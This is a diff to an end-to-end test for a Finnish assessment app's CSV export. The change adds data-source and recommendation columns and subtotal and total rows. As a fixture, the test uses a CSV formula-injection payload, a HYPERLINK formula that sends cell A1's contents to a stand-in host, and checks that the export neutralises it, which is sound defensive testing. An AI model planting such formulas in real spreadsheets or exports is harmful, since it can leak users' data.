@@ -10,6 +10,7 @@ import path from 'node:path';
 import Papa from 'papaparse';
 import { test, newAppPage, assertClean, checkA11y, screenshot, ROOT, SCREENSHOT_DIR } from './harness.mjs';
 import { openDemoReview, printToPng, reopenReview } from './flows.mjs';
+import { demoDay } from './demo-dates.mjs';
 
 const OUT_DIR = path.join(ROOT, 'test-results', 'report');
 const FORMULA_NOTE = '=HYPERLINK("http://x?d="&A1)';
@@ -76,18 +77,21 @@ test('report in fi at 1024x768: demo 2022 report, A4 PDF → PNG, CSV with a neu
   await page.locator('[data-testid="report-item-row"][data-item="staffing-1"]').filter({ hasText: FORMULA_NOTE }).waitFor();
 
   const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Lataa pisteet (CSV)' }).click()]);
-  assert.equal(download.suggestedFilename(), 'fidelio-tyovalmennuspalvelu-kateva-2022-10-11.csv');
+  assert.equal(download.suggestedFilename(), `fidelio-tyovalmennuspalvelu-kateva-${demoDay('2022-10-11')}.csv`);
   const bytes = await readFile(await download.path());
   assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 with a byte order mark');
   const csv = bytes.subarray(3).toString('utf8');
   const { data: rows, errors } = Papa.parse(csv, { delimiter: ';', newline: '\r\n', skipEmptyLines: true });
   assert.deepEqual(errors, []);
-  assert.deepEqual(rows[0], ['Tunnus', 'Osa-alue', 'Nro', 'Kohta', 'Yhteisarvio', 'Havainnot']);
-  assert.equal(rows.length, 26, 'a header and 25 item rows');
+  // The column set of docs/csv-columns.md: items with their data sources and recommendations, then the subtotals and the total with its band.
+  assert.deepEqual(rows[0], ['Tunnus', 'Osa-alue', 'Nro', 'Kohta', 'Yhteisarvio', 'Havainnot', 'Tietolähteet', 'Suositukset']);
+  assert.equal(rows.length, 30, 'a header, 25 item rows, 3 section subtotals and the total');
   assert.deepEqual(rows[1].slice(0, 5), ['staffing-1', 'Henkilöstö', '1', 'Asiakasmäärä', '5']);
   assert.equal(rows[1][5], `'${FORMULA_NOTE}`, 'the formula is neutralised with an apostrophe');
-  assert.ok(csv.includes(`;"'=HYPERLINK(""http://x?d=""&A1)"\r\n`), 'RFC 4180 quoting with doubled quotes');
-  assert.ok(rows.slice(1).every((row) => row.length === 6));
+  assert.ok(csv.includes(`;"'=HYPERLINK(""http://x?d=""&A1)";`), 'RFC 4180 quoting with doubled quotes');
+  assert.ok(rows.slice(1).every((row) => row.length === 8));
+  assert.ok(rows.slice(1, 26).some((row) => row[7] !== ''), 'the recommendations are in the file');
+  assert.deepEqual(rows.at(-1), ['total', '', '', 'Kokonaispisteet', '91', 'kohtalainen', '', '']);
   await assertClean(page);
 });
 
